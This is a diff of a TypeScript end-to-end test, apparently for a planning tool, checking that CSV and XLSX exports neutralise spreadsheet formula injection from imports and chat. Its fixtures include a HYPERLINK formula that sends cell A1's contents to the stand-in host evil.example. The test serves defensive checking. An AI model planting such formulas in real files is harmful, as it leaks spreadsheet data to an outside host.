@@ -1,28 +1,19 @@
 import fs from 'node:fs';
-import { runCliWith } from '../support/cli';
+import { cliOverTestStorage } from '../support/cli';
 import os from 'node:os';
 import path from 'node:path';
-import { randomBytes } from 'node:crypto';
 import JSZip from 'jszip';
 import { parse } from 'csv-parse/sync';
 import { ChatService } from '../../src/services/chat/chat-service';
-import { connectionStringFactory, storesOver } from '../../src/store/open-storage';
-import { Tables } from '../../src/store/tables';
 
 /**
  * Formula injection end to end: text that arrives by import and by chat comes
  * out of the CSV export as text (behind a quote), and out of the XLSX export
  * as plain string cells.
  */
-const env = {
-  STORAGE_CONNECTION_STRING: process.env.TEST_STORAGE_CONNECTION_STRING,
-  TABLE_PREFIX: 'inj' + randomBytes(4).toString('hex'),
-};
-const storage = storesOver(new Tables(connectionStringFactory(env.STORAGE_CONNECTION_STRING!), env.TABLE_PREFIX));
+const { storage, cli } = cliOverTestStorage('inj');
 const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'inj-'));
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Report")';
-
-const cli = (...args: string[]) => runCliWith(env, args);
 
 beforeAll(async () => {
   const file = path.join(tmp, 'plan.csv');
@@ -34,11 +25,7 @@ beforeAll(async () => {
   );
   const imported = await cli('import', file, '--plan', 'inj', '--baseline', '2026-01-01');
   expect(imported.code).toBe(0);
-  const chat = new ChatService(storage, 'Europe/London', {
-    dateRequested: async () => undefined,
-    actionChanged: async () => undefined,
-    dateDecided: async () => undefined,
-  });
+  const chat = new ChatService(storage, 'Europe/London');
   const replies = await chat.handle({
     text: 'note INJ-2 +HYPERLINK("http://evil.example","click")',
     conversation: { id: 'personal-alexw', kind: 'personal' },
@@ -54,7 +41,7 @@ beforeAll(async () => {
 test('the CSV export neutralises formula-like text from imports and from chat', async () => {
   const result = await cli('export', '--plan', 'inj', '--format', 'csv');
   expect(result.code).toBe(0);
-  const [header, inj1, inj2] = parse(result.out.slice(1)) as string[][];
+  const [header, inj1, inj2]: string[][] = parse(result.out.slice(1));
   const cell = (row: string[], name: string) => row[header.indexOf(name)];
   expect(cell(inj1, 'Action')).toBe(`'${HYPERLINK}`);
   expect(cell(inj1, 'Theme')).toBe("'@SUM(1+1)");
